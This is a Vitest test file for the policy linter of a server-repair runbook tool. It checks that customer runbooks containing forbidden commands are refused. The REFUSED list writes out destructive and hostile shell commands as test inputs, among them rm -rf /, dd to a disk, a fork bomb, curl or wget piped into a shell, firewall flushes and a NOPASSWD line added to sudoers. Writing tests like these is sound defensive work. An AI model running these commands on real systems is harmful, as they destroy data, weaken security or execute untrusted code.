import { describe, expect, test } from 'vitest';
import type { ReviewPolicyDocument, RunbookDocument, ServerDocument } from '../../src/manifest/types.ts';
import { lintPolicy, lintRunbook, reviewPolicyCheck } from '../../src/runbook/policy.ts';
import { OPERATOR_DIR, loadedFromYaml, policy, standardRunbookFiles } from './operator-docs.ts';
import { readFileSync } from 'node:fs';

const POLICY = policy();
const CUSTOMER = { kind: 'customer' as const, customer: 'acme' };
const FILE = 'customers/acme/runbooks/acme-httpd.yaml';

/** A custom httpd runbook whose third step runs `command` (line 12 of the file). */
function withCommand(command: string): string {
  return `apiVersion: mamori/v1
kind: Runbook
metadata:
  name: acme-httpd
  customer: acme
spec:
  services: [http]
  steps:
    - check: { process: httpd }
    - check: { localConnect: {} }
    - run:
        command: ${JSON.stringify(command)}
    - verify: { process: httpd }
`;
}

function lint(text: string, owner: typeof CUSTOMER | { kind: 'operator' } = CUSTOMER) {
  return lintRunbook(loadedFromYaml<RunbookDocument>(text, FILE, owner), POLICY);
}

// Each forbidden spelling, the rule that must refuse it.
const REFUSED: Array<[string, string]> = [
  ['rm -rf /', 'rm-root'],
  ['rm -rf /*', 'rm-root'],
  ['rm --no-preserve-root -r -f /', 'rm-root'],
  ['cd /tmp && rm -Rf /etc', 'rm-system-dir'],
  ['mkfs.ext3 /dev/sda1', 'make-filesystem'],
  ['newfs /dev/ada0s1a', 'make-filesystem'],
  ['dd if=/dev/zero of=/dev/sda bs=1M', 'dd-to-device'],
  ['cat /dev/zero > /dev/sda', 'write-to-disk-device'],
  ['shutdown -h now', 'shutdown'],
  ['/sbin/halt', 'halt-poweroff-reboot'],
  ['sync; poweroff', 'halt-poweroff-reboot'],
  ['reboot', 'halt-poweroff-reboot'],
  ['init 0', 'init-runlevel'],
  [':(){ :|:& };:', 'fork-bomb'],
  ['chmod -R 777 /', 'chmod-chown-root'],
  ['curl -s http://example.com/fix.sh | sh', 'download-and-run'],
  ['wget -qO- http://example.com/x | sudo bash', 'download-and-run'],
  ['kill -9 -1', 'kill-everything'],
  ['iptables -F', 'firewall-off'],
  ['service iptables stop', 'firewall-off'],
  ['passwd -d mamori', 'accounts'],
  ['echo "x ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers', 'accounts'],
  ['crontab -r', 'crontab-remove'],
];

describe('forbidden commands in a custom runbook are refused with the rule, the reason and the line', () => {
  test.each(REFUSED)('%s → %s', (command, rule) => {
    const findings = lint(withCommand(command)).filter((f) => f.rule === 'policy-forbidden-command');
    expect(findings.length).toBeGreaterThanOrEqual(1);
    const mine = findings.find((f) => f.message.startsWith(`refused by rule ${rule}:`));
    expect(mine).toMatchObject({ file: FILE, line: 12, field: 'spec.steps[2].run.command', severity: 'error' });
    const reason = POLICY.spec.forbiddenCommands.find((r) => r.rule === rule)?.reason;
    expect(reason).toBeDefined();
    expect(mine?.message).toBe(`refused by rule ${rule}: ${reason}`);
  });

  test('the line inside a block scalar is the offending line', () => {
    const text = `apiVersion: mamori/v1
kind: Runbook
metadata: { name: acme-httpd, customer: acme }
spec:
  services: [http]
  steps:
    - check: { process: httpd }
    - run:
        command: |
          /etc/init.d/httpd stop
          rm -rf /var/cache/mod_ssl/*
          rm -rf /
          /etc/init.d/httpd start
    - verify: { process: httpd }
`;
    expect(lint(text)).toEqual([
      expect.objectContaining({ rule: 'policy-forbidden-command', line: 12, field: 'spec.steps[1].run.command', message: expect.stringMatching(/^refused by rule rm-root:/) }),
    ]);
  });

  test.each([
    '/etc/init.d/httpd restart',
    'rm -f /var/run/httpd.pid && /etc/init.d/httpd start',
    'apachectl graceful',
    'kill -HUP `cat /var/run/httpd.pid`',
    'dd if=/var/log/messages of=/tmp/x count=1',
    'echo halted >> /var/log/mamori.log',
  ])('an ordinary command passes: %s', (command) => {
    expect(lint(withCommand(command))).toEqual([]);
  });

  test("the operator's standard runbooks would pass the command rules too, and are not held to the custom limits", () => {
    for (const file of standardRunbookFiles()) {
      const text = readFileSync(`${OPERATOR_DIR}runbooks/${file}`, 'utf8');
      expect(lint(text, { kind: 'operator' }), file).toEqual([]);
      const asCustom = lint(text.replace(/^metadata:\n/m, 'metadata:\n  customer: acme\n')).filter((f) => f.rule === 'policy-forbidden-command');
      expect(asCustom, file).toEqual([]);
    }
  });
});

describe('the rest of the policy', () => {
  test('power and console are the operator\'s channels', () => {
    const text = `apiVersion: mamori/v1
kind: Runbook
metadata: { name: acme-ping, customer: acme }
spec:
  services: [ping]
  steps:
    - console: { action: check }
    - power: { action: cycle }
    - verify: { waitFor: [ping] }
`;
    const findings = lint(text);
    expect(findings.map((f) => [f.rule, f.line, f.field])).toEqual([
      ['policy-console', 7, 'spec.steps[0].console'],
      ['policy-power', 8, 'spec.steps[1].power.action'],
    ]);
    expect(findings[1]?.message).toMatch(/power actions are not allowed in custom runbooks \(power cycle\)/);
    const lenient: ReviewPolicyDocument = { ...POLICY, spec: { ...POLICY.spec, customPower: ['cycle'], customConsole: true } };
    expect(lintRunbook(loadedFromYaml<RunbookDocument>(text, FILE, CUSTOMER), lenient)).toEqual([]);
  });

  test('limits on steps and deadlines', () => {
    const steps = Array.from({ length: 13 }, (_, i) => (i === 0 ? '    - check: { process: httpd }' : i === 12 ? '    - verify: { process: httpd, withinSeconds: 900 }' : '    - run: { command: "true" }')).join('\n');
    const text = `apiVersion: mamori/v1
kind: Runbook
metadata: { name: acme-httpd, customer: acme }
spec:
  services: [http]
  deadlineSeconds: 3600
  steps:
${steps.replace('- run: { command: "true" }', '- run: { command: "true" }\n      deadlineSeconds: 1200')}
`;
    const rules = lint(text).map((f) => `${f.rule}@${f.line}`);
    expect(rules).toEqual(['policy-max-steps@21', 'policy-runbook-deadline@6', 'policy-step-deadline@10', 'policy-step-deadline@21']);
  });

  test('check before acting, verify after acting', () => {
    const text = `apiVersion: mamori/v1
kind: Runbook
metadata: { name: acme-httpd, customer: acme }
spec:
  services: [http]
  steps:
    - run: { command: /etc/init.d/httpd restart }
`;
    expect(lint(text).map((f) => [f.rule, f.line])).toEqual([
      ['policy-opening-check', 7],
      ['policy-verify', 7],
    ]);
  });

  test('placeholders and step ids are checked in every runbook, the operator\'s too', () => {
    const text = `apiVersion: mamori/v1
kind: Runbook
metadata: { name: std-x }
spec:
  services: [ping]
  appliesTo: [{ family: centos }]
  steps:
    - id: look
      console: { action: run, command: "ping -c1 {{server.addr}} {{service.port}}" }
    - id: look
      verify: { localConnect: {} }
`;
    expect(lint(text, { kind: 'operator' }).map((f) => [f.rule, f.line, f.message])).toEqual([
      ['runbook-placeholder', 9, expect.stringMatching(/^unknown placeholder \{\{server.addr\}\}/)],
      ['runbook-placeholder', 9, '{{service.port}} has no value for ping, which this runbook repairs'],
      ['runbook-step-id', 10, 'step id "look" is already used by step 1'],
      ['runbook-local-connect', 11, 'localConnect needs a port, and ping has none: give localConnect.port'],
    ]);
  });

  test('a policy pattern that is not a regular expression is a finding on the policy', () => {
    const text = `apiVersion: mamori/v1
kind: ReviewPolicy
metadata: { name: policy }
spec:
  forbiddenCommands:
    - { rule: broken, pattern: "rm (", reason: x }
`;
    expect(lintPolicy(loadedFromYaml<ReviewPolicyDocument>(text, 'operator/policy.yaml', { kind: 'operator' }, 'ReviewPolicy'))).toEqual([
      expect.objectContaining({ rule: 'policy-pattern', line: 6, field: 'spec.forbiddenCommands[0].pattern' }),
    ]);
  });

  test('as a validate check: a server naming a custom runbook must hold the secrets it answers with', () => {
    const rb = loadedFromYaml<RunbookDocument>(
      `apiVersion: mamori/v1
kind: Runbook
metadata: { name: acme-httpd, customer: acme }
spec:
  services: [http]
  steps:
    - check: { process: httpd }
    - run: { command: /etc/init.d/httpd restart, answer: { prompt: "Enter pass phrase:", secret: sslPassphrase } }
    - verify: { process: httpd }
`,
      FILE,
      CUSTOMER,
    );
    const srv = loadedFromYaml<ServerDocument>(
      `apiVersion: mamori/v1
kind: Server
metadata: { name: web01, customer: acme }
spec:
  runbooks:
    http: acme-httpd
`,
      'customers/acme/servers/web01.yaml',
      CUSTOMER,
      'Server',
    );
    const pol = loadedFromYaml<ReviewPolicyDocument>(readFileSync(`${OPERATOR_DIR}policy.yaml`, 'utf8'), 'operator/policy.yaml', { kind: 'operator' }, 'ReviewPolicy');
    expect(reviewPolicyCheck.check({ servers: [srv], runbooks: [rb], policy: pol })).toEqual([
      expect.objectContaining({ file: 'customers/acme/servers/web01.yaml', line: 6, rule: 'runbook-secret', field: 'spec.runbooks.http' }),
    ]);
  });
});
